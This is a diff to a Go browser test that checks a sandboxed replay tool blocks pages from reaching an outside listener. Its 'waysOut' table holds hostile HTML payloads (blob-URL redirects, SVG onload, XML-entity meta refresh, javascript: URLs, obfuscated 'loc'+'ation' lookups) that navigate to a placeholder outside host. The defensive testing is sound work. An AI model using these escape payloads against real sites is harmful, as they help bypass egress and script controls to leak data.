@@ -44,8 +44,10 @@ var waysOut = []wayOut{
 	{name: "data-preconnect", html: `<iframe src="data:text/html,<link rel=preconnect href=http://OUT>"></iframe>`},
 	{name: "data-top", html: tall + `<iframe src="data:text/html,<body style=margin:0><a target=_top href='http://OUT/NAME' style='display:block;height:600px'>x</a>"></iframe>`, click: true},
 	{name: "data-blank", html: tall + `<iframe src="data:text/html,<body style=margin:0><a target=_blank href='http://OUT/NAME' style='display:block;height:600px'>x</a>"></iframe>`, click: true},
-	{name: "blob", html: `<script>location.href=URL.createObjectURL(new Blob(["<script>` + lost + `<\/script>"],{type:"text/html"}))</script>`},
-	{name: "blob-meta", html: `<script>location.href=URL.createObjectURL(new Blob(["<meta http-equiv=refresh content='0;url=http://OUT/NAME'>"],{type:"text/html"}))</script>`},
+	{name: "blob", html: `<script>location.href=URL.createObjectURL(new Blob(["<script>` + lost + `<\/script>"],{type:"text/html"}))</script>`, sites: true},
+	{name: "blob-meta", html: `<script>location.href=URL.createObjectURL(new Blob(["<meta http-equiv=refresh content='0;url=http://OUT/NAME'>"],{type:"text/html"}))</script>`, script: true},
+	{name: "blob-drawing", html: `<script>location.href=URL.createObjectURL(new Blob(["<svg xmlns='http://www.w3.org/2000/svg' onload=\"` + lost + `\"/>"],{type:"image/svg+xml"}))</script>`, sites: true},
+	{name: "blob-entity", html: `<script>location.href=URL.createObjectURL(new Blob(["<!DOCTYPE r [<!ENTITY e \"<meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=http://OUT/NAME'/>\">]><r>&e;</r>"],{type:"text/xml"}))</script>`, script: true},
 	{name: "javascript", html: `<script>location.href="javascript:'<meta http-equiv=refresh content=\"0;url=http://OUT/NAME\">'"</script>`},
 	{name: "javascript-computed", html: `<script>globalThis["loc"+"ation"].href="javascript:'<script>globalThis[\"loc\"+\"ation\"]=\"http://OUT/NAME\"<\/script>'"</script>`},
 	{name: "opener", html: tall + `<a target=x href="http://other.test/opener">x</a>`, click: true},
@@ -54,6 +56,11 @@ var waysOut = []wayOut{
 	{name: "open-eval", html: tall + `<body onclick="W=window.open();W.eval('globalThis[\'loc\'+\'ation\']=\'http://OUT/NAME\'')">x`, click: true},
 	{name: "frame-top", html: tall + `<iframe src="http://other.test/top"></iframe>`, click: true},
 }
+
+// blobFrame is no way out: a page that makes another, with what a page has.
+const blobFrame = `<!DOCTYPE html><body><script>onmessage=(e)=>{self.told=e.data};var f=document.createElement("iframe");
+f.src=URL.createObjectURL(new Blob(["<!DOCTYPE html><img src='http://cdn.test/p.gif' onload='parent.postMessage([document.compatMode,this.naturalWidth,this.src,origin].join(),\"*\")'>"],{type:"text/html"}));
+document.body.append(f)</script>`
 
 // TestNoWayOut leads a browser to pages that want it out: by computed names, in documents that have none of our script. A listener
 // outside must hear nothing: where the browser obeys Connection-Allowlist, without our script; where it doesn't, with it.
@@ -66,6 +73,8 @@ func TestNoWayOut(t *testing.T) {
 			a.page("http://hostile.test/"+w.name, "text/html", strings.NewReplacer("OUT", outside.address, "NAME", w.name).Replace(w.html))
 		}
 		a.page("http://other.test/opener", "text/html", `<script>setTimeout(()=>{opener["loc"+"ation"]="http://`+outside.address+`/opener"},100)</script>`)
+		a.page("http://hostile.test/blob-frame", "text/html", blobFrame)
+		a.page("http://cdn.test/p.gif", "image/gif", pixel)
 		a.page("http://other.test/top", "text/html", tall+`<body onclick="top['loc'+'ation']='http://`+outside.address+`/frame-top'">x`)
 		known := true
 		b := browseBy(t, a, func(next http.Handler) http.Handler {
@@ -83,6 +92,10 @@ func TestNoWayOut(t *testing.T) {
 		known = false
 		call(b, network.SetBlockedURLs, network.SetBlockedURLsParams{})
 		call(b, network.ClearBrowserCache, cdp.Empty{})
+		b.open("http://hostile.test/blob-frame")
+		if err := b.poll("self.told === 'CSS1Compat,1,http://cdn.test/p.gif,http://hostile.test'"); err != nil {
+			t.Errorf("a page in a blob: %v, %s", err, b.run("return self.told"))
+		}
 		b.leave(outside, slices.DeleteFunc(slices.Clone(waysOut), func(w wayOut) bool { return !w.script && (!w.sites || mode != replay.PerSite) }))
 	})
 }
